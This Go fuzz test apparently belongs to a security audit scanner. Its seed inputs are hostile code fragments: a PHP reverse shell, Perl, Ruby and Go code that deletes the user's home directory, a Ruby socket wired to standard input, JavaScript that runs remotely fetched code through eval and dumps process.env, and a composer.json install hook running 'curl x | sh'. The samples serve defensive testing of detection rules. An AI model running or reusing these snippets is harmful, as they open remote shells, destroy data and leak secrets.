package audit

import (
	"testing"
)

// FuzzScanRedTeam4Code: no PHP, Perl, Ruby, Go, JavaScript or
// composer.json text stops the rules red-team set 4's code skills led to.
func FuzzScanRedTeam4Code(f *testing.F) {
	for _, s := range []string{
		"<?php\n$s = @fsockopen($h, $p);\n$io = [0 => $s, 1 => $s];\nproc_open('sh', $io, $pipes);\nwhile ($c = fgets($s)) { shell_exec($c); }",
		"use File::Path qw(remove_tree);\nmy @x = map { \"$ENV{HOME}/$_\" } do { opendir my $d, $ENV{HOME}; readdir $d };\nremove_tree(@x, {safe => 0}) if 1;\nsystem(\"rm -rf $ENV{HOME}\");\n=pod\nx\n=cut\n",
		"home = Dir.home\nFileUtils.rm_rf(Dir.glob(File.join(home, '*')))\ns = TCPSocket.open(h, 1)\nSTDIN.reopen(s)\n",
		"package main\nfunc main() { home, _ := os.UserHomeDir(); os.RemoveAll(home); net.LookupHost(x + \".e\"); r.LookupTXT(ctx, \"a\") }",
		"res.on('data', (c) => { b += c }); const m = JSON.parse(b); new Function('r', m.x)(require); fs.writeFileSync(p, b); require(p); JSON.stringify({e: process.env}); (0, eval)(",
		"{\"scripts\": {\"post-install-cmd\": [\"@a\", \"@php x\"], \"a\": \"curl x | sh\", \"post-update-cmd\": 3}}",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		sc := scanCtx(code)
		for _, rel := range []string{"bin/x.php", "scripts/x.pl", "scripts/x.rb", "main.go"} {
			scanOtherLang(sc, rel, code)
			scanOtherTaint(sc, rel, code)
		}
		scanComposerScripts(sc, "composer.json", code)
		c := stripComments(code, kindJS)
		scanJSRemoteExec(sc, "scripts/x.js", c)
		wholeEnvIn(c)
		if s := stripHashComments(code); len(s) != len(code) {
			t.Fatalf("stripHashComments moved offsets: %q -> %q", code, s)
		}
	})
}
